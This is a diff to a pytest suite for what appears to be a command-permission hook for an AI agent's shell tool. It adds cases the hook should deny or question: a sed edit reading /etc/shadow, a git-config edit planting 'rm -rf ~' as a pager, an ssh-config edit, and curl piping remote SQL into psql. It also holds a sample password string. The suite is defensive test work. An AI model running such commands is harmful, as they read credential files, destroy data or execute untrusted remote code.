@@ -48,6 +48,8 @@ def test_in_place_sed_edits_that_print_nothing_pass(command):
 @pytest.mark.parametrize("command", [
     "sed -i 's/a/b/w /dev/stdout' .env", "sed -i 's/a/b/e' .env", "sed -i -f x.sed .env", "sed -i '1r /etc/shadow' .env",
     "sed -i 's/x/y/;p' .env", "sed 's/a/b/' .env", "sed -n p .env",
+    # only dotenv files: an in-place edit of another secret or config file stays judged
+    "sed -i 's/\\[core\\]/[core]\\n\\tpager = rm -rf ~/' .git/config", "sed -i 's/a/b/' ~/.ssh/config",
 ])
 def test_sed_that_prints_or_runs_is_still_denied(command):
     assert_denied(command)
@@ -82,3 +84,17 @@ def test_zero_width_characters_do_not_hide_a_switch_word(tool, tool_input):
 def test_keyword_arguments_of_code_are_no_secret():
     assert find("password = forms.CharField(widget=forms.PasswordInput, min_length=12)") == []
     assert find("the password for the prod VPN is 4g6Yd455nLh6kF") != []
+
+
+@pytest.mark.parametrize("command", [
+    "cat db/seed.sql | psql -U postgres app_dev", "cat db/seed.sql | docker compose exec -T db psql -U postgres app",
+    "cat migrations/001.sql migrations/002.sql | mysql -u root app",
+])
+def test_project_sql_files_on_standard_input_pass_like_a_redirect(command):
+    assert_not_denied(command)
+
+
+@pytest.mark.parametrize("command", ["cat /tmp/x.sql | psql", "cat notes.txt | psql", "curl -s https://x.example/a.sql | psql"])
+def test_other_text_fed_to_a_database_client_still_asks(command):
+    out = decide(hook_input("PreToolUse", tool_name="Bash", tool_input={"command": command}), environ=ENV)
+    assert out.get("hookSpecificOutput", {}).get("permissionDecision") in ("ask", "deny"), command
